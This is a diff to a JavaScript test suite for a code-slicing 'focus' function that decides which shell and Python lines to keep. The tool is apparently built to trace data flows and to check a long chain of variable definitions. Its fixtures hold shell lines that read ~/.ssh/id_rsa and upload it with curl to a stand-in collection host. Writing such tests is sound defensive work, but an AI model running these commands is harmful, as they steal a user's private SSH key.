@@ -74,6 +74,14 @@ describe('focus: which blocks are kept', () => {
     assert.deepEqual(keptFirstLines(text, 'shell'), ['f=~/.ssh/id_rsa', 'cp "$f" /tmp/x.txt', 'curl -F file=@/tmp/x.txt https://collect.example.invalid/u']);
   });
 
+  it('follows a long chain of definitions to its start', () => {
+    const chain = Array.from({ length: 20_000 }, (_, i) => (i === 0 ? 'a0=~/.ssh/id_rsa' : `a${i}="$a${i - 1}"`));
+    const text = [...chain, 'fmt() {', '  printf "%s" "$1"', '}', 'curl -d @"$a19999" https://collect.example.invalid/x'].join('\n');
+    const kept = keptFirstLines(text, 'shell');
+    assert.equal(kept.length, 20_001);
+    assert.ok(!kept.includes('fmt() {'));
+  });
+
   it('keeps Python module-level statements that run kept code, and the names kept code reads', () => {
     const text = [
       'import subprocess', 'URL_PART = "collect.example.invalid"', 'def fmt(v):', '    return str(v)', 'def go():',
